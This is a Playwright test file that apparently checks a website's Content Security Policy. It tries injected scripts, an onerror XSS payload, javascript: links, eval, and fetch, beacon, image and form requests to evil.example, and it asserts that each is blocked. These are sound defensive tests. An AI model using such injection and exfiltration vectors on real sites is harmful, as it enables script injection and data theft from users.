// The CSP stops injected code: it can neither run scripts nor send data out.
import type { Page } from '@playwright/test';
import { pages } from '#content/site-map.ts';
import { expect, test } from '../../support/browser/e2e-fixtures.ts';

const expectSoftly = expect.configure({ soft: true });
const FORM = 'https://forms.adhyay.example/f/abcdefgh';
/** One of each policy: of the public pages, which differ in hashes only, and of the desk. */
const PAGES = ['/contact', '/volunteer/login'];

test.use({ trust: 'form service', variables: { FORM_ENDPOINT: FORM } });

/** Either directive may report first. */
const SCRIPT = /require-trusted-types-for|script-src/;
/** Attacks, and the directive that stops each. */
const TRIES: [name: string, directive: RegExp, attack: () => unknown][] = [
  [
    'an inline script',
    SCRIPT,
    () => {
      const script = document.createElement('script');
      script.append('globalThis.ran = true');
      document.body.append(script);
    },
  ],
  [
    'markup from a text',
    SCRIPT,
    () => {
      document.body.innerHTML = '<img src=x onerror="globalThis.ran = true">';
    },
  ],
  [
    'a handler in the markup',
    SCRIPT,
    () => {
      const button = document.createElement('button');
      document.body.append(button);
      const handler = document.createAttribute('onclick');
      handler.value = 'globalThis.ran = true';
      button.setAttributeNode(handler);
      button.click();
    },
  ],
  [
    'a link that runs',
    SCRIPT,
    () => {
      const link = document.createElement('a');
      link.href = 'javascript:globalThis.ran = true';
      document.body.append(link);
      link.click();
    },
  ],
  [
    'eval',
    SCRIPT,
    // In a timer, because Playwright's evaluate bypasses the ban on eval.
    () => void setTimeout(() => Reflect.get(globalThis, 'eval')('globalThis.ran = true')),
  ],
  [
    'a script from elsewhere',
    SCRIPT,
    () => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/x.js';
      document.body.append(script);
    },
  ],
  ['a module from elsewhere', SCRIPT, () => import('https://evil.example/x.js' as string)],
  [
    'a policy of its own',
    /trusted-types/,
    () => Reflect.get(globalThis, 'trustedTypes').createPolicy('mine', {}),
  ],
  ['a call to elsewhere', /connect-src/, () => fetch('https://evil.example/')],
  [
    "another's form at the form service",
    /connect-src/,
    () => fetch('https://forms.adhyay.example/f/anothers', { method: 'POST' }),
  ],
  ['a beacon to elsewhere', /connect-src/, () => navigator.sendBeacon('https://evil.example/')],
  [
    'a picture from elsewhere',
    /img-src/,
    () => {
      new Image().src = 'https://evil.example/?token';
    },
  ],
  [
    'another base',
    /base-uri/,
    () => {
      const base = document.createElement('base');
      base.href = 'https://evil.example/';
      document.head.append(base);
    },
  ],
  [
    'a form that goes elsewhere',
    /form-action/,
    () => {
      const form = document.createElement('form');
      form.action = 'https://evil.example/';
      document.body.append(form);
      form.submit();
    },
  ],
  [
    'a frame in the page',
    /frame-src/,
    () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      document.body.append(frame);
    },
  ],
  ['a worker', SCRIPT, () => new Worker('/assets/evil.js')],
];

for (const path of PAGES) {
  test(`${path}: no foreign script runs, and no request leaves the site`, async ({
    browser,
    program,
  }) => {
    test.setTimeout(120_000);
    const page = await browser.newPage();
    const left: string[] = [];
    await page.route(/\/\/(evil|forms\.adhyay)\.example/, (route) => {
      left.push(route.request().url());
      return route.abort();
    });
    for (const [name, directive, attack] of TRIES) {
      await page.goto(program.address + path, { waitUntil: 'domcontentloaded' });
      await tryIt(page, attack);
      await expectSoftly.poll(() => stopped(page), name).toMatch(directive);
      expect.soft(await page.evaluate(() => 'ran' in globalThis), `${name} ran`).toBe(false);
    }
    expect(left).toEqual([]);
    await page.close();
  });
}

test('every public page has the policy of /contact, with hashes of its own', async ({
  program,
}) => {
  const of = async (path: string) => {
    const { headers } = await fetch(program.address + path);
    return headers.get('content-security-policy')?.replaceAll(/ 'sha256-[^']+'/g, '');
  };
  const policy = await of('/contact');
  expect(policy).toContain("script-src 'self';");
  for (const { path } of pages) expect(await of(path), path).toBe(policy);
});

test('the form may be sent to its own path, and to no other of that host', async ({
  browser,
  program,
}) => {
  const page = await browser.newPage();
  const answered = page.waitForRequest(FORM);
  await page.route(FORM, (route) => route.fulfill({ body: '{}' }));
  await page.goto(`${program.address}/contact`);
  await page.evaluate((form) => void fetch(form, { method: 'POST', mode: 'no-cors' }), FORM);
  await answered;
  await tryIt(page, () => fetch('https://forms.adhyay.example/f/other', { mode: 'no-cors' }));
  await expect.poll(() => stopped(page)).toBe('connect-src');
  await page.close();
});

test('pages cannot be framed', async ({ browser, program }) => {
  const page = await browser.newPage();
  await page.route('https://evil.example/', (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<iframe src="${program.address}/volunteer/login"></iframe>`,
    }),
  );
  await page.goto('https://evil.example/');
  // Chromium's page in place of one that refuses framing.
  await expect
    .poll(() => page.frames().map((frame) => frame.url()))
    .toEqual(['https://evil.example/', 'chrome-error://chromewebdata/']);
  await page.close();
});

async function tryIt(page: Page, attack: () => unknown): Promise<void> {
  await page.evaluate(() => {
    const seen: string[] = [];
    Reflect.set(globalThis, 'stopped', seen);
    document.addEventListener('securitypolicyviolation', (event) => {
      seen.push(event.effectiveDirective);
    });
  });
  // Blocked calls throw or reject; both are expected.
  await page.evaluate(attack).catch(() => {});
}

/** The violated directives so far; the browser reports them asynchronously. */
function stopped(page: Page): Promise<string> {
  return page.evaluate((): string => Reflect.get(globalThis, 'stopped').join(' '));
}
